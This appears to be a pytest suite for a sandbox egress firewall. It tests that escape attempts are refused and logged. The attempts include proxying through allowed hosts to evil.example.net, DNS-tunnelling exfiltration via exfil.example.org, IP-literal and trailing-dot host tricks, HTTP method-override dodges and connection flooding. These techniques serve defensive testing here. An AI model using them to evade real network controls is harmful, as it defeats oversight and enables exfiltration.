# SPDX-License-Identifier: MIT
"""The sandbox tries to get out.  Each attempt is refused or neutralised,
and the server it wanted never hears from it."""
import json
import os
import re
import uuid

import pytest

from conftest import PUB_PEER, audit_events

PROFILE = """\
name: adv
default_action: deny
rules:
  - name: api
    host_pattern: api.example.com
    ports: [{http}, {https}]
    allow_private: true
  - name: scoped
    host_pattern: other.example.com
    ports: [{http}]
    allow_private: true
    methods: [GET]
  - name: pub-by-name
    host_pattern: pub.example.com
    ports: [{pub}]
"""

CURL = ["curl", "-sS", "--max-time", "15", "--noproxy", "*"]


@pytest.fixture(scope="module", autouse=True)
def profile(world):
    world.profile("adv", PROFILE)


def test_ip_literal_of_an_allowed_name_is_refused(islo, world):
    if not world.netns:
        pytest.skip("the upstream namespace needs root")
    ok = islo(CURL + ["http://pub.example.com:%d/" % world.pub_port], "adv")
    assert ok.rc == 0, ok
    lit = islo(CURL + ["http://%s:%d/" % (PUB_PEER, world.pub_port)], "adv")
    assert lit.rc == 7, lit
    ev = [e for e in audit_events(lit.audit) if e.get("action") == "deny"]
    assert ev and ev[0]["dst_ip"] == PUB_PEER and "host" not in ev[0]


def test_connect_through_an_allowed_host_is_refused(islo, world):
    r = islo(CURL[:-2] + ["-p", "-x", "http://api.example.com:%d" % world.http_port,
                     "http://evil.example.net:%d/" % world.http_port], "adv")
    assert r.rc != 0, r
    assert "host=evil.example.net" not in r.out
    sec = [e for e in audit_events(r.audit) if e["event"] == "security_event"]
    assert sec, r


def test_absolute_form_to_another_host_is_refused(islo, world):
    # an HTTP proxy request through an allowed host's connection
    r = islo(CURL[:-2] + ["-x", "http://api.example.com:%d" % world.http_port,
                     "http://evil.example.net:%d/x" % world.http_port], "adv")
    assert "host=evil.example.net" not in r.out, r
    assert any(e["event"] == "security_event" for e in audit_events(r.audit)), r


def test_case_and_trailing_dot_are_the_same_host(islo, world):
    r = islo(CURL + ["http://API.Example.COM.:%d/case" % world.http_port], "adv")
    assert r.rc == 0 and "path=/case" in r.out, r
    r = islo(CURL + ["http://EVIL.example.NET.:%d/" % world.http_port], "adv")
    assert r.rc == 7, r


def test_dns_tunnelling_never_leaves(islo, world):
    labels = ".".join((uuid.uuid4().hex + uuid.uuid4().hex)[:60] for _ in range(3))
    name = "%s.exfil.example.org" % labels
    r = islo(["sh", "-c", "getent hosts %s; getent hosts %s" % (name, name.upper())], "adv")
    assert r.rc == 0, r                       # answered (synthetic) ...
    assert "198.1" in r.out or "64:ff9b" in r.out
    assert labels[:32] not in world.dns_queries()   # ... and never forwarded
    assert "exfil" not in world.dns_queries()


def test_h2c_upgrade_is_answered_in_http1(islo, world):
    r = islo(CURL + ["--http2", "-o", "/dev/null", "-w", "%{http_version} %{http_code}",
                     "http://other.example.com:%d/hello" % world.http_port], "adv")
    assert r.rc == 0 and r.out == "1.1 200", r


def test_http2_prior_knowledge_to_an_intercepted_host_is_refused(islo, world):
    r = islo(CURL + ["--http2-prior-knowledge", "http://other.example.com:%d/" % world.http_port],
             "adv")
    assert r.rc != 0 or "islo-net" in r.out, r
    ev = [e for e in audit_events(r.audit) if e["event"] == "http_request"]
    assert ev and ev[0]["action"] == "deny" and ev[0]["status"] == 400, r


def test_method_scoping_cannot_be_dodged_with_case_or_override(islo, world):
    r = islo(["sh", "-c",
              "curl -sS -o /dev/null -w '%%{http_code} ' -X delete http://other.example.com:%d/; "
              "curl -sS -o /dev/null -w '%%{http_code} ' -X POST -H 'X-HTTP-Method-Override: GET' "
              "http://other.example.com:%d/" % (world.http_port, world.http_port)], "adv")
    assert r.out.split() == ["400", "403"], r


def test_many_connections_are_bounded_by_max_connections(islo, world):
    script = (
        "import socket\n"
        "socks=[]; refused=0\n"
        "for i in range(60):\n"
        "    s=socket.socket(); s.settimeout(5)\n"
        "    try:\n"
        "        s.connect(('api.example.com',%d)); socks.append(s)\n"
        "    except ConnectionRefusedError: refused+=1\n"
        "print(len(socks), refused)\n" % world.http_port)
    r = islo(["/usr/bin/python3", "-c", script], "adv", extra=["--max-connections", "50"])
    assert r.rc == 0, r
    opened, refused = map(int, r.out.split())
    assert opened == 50 and refused == 10, r
    ev = [e for e in audit_events(r.audit) if e.get("reason") == "too many connections"]
    assert len(ev) == 10
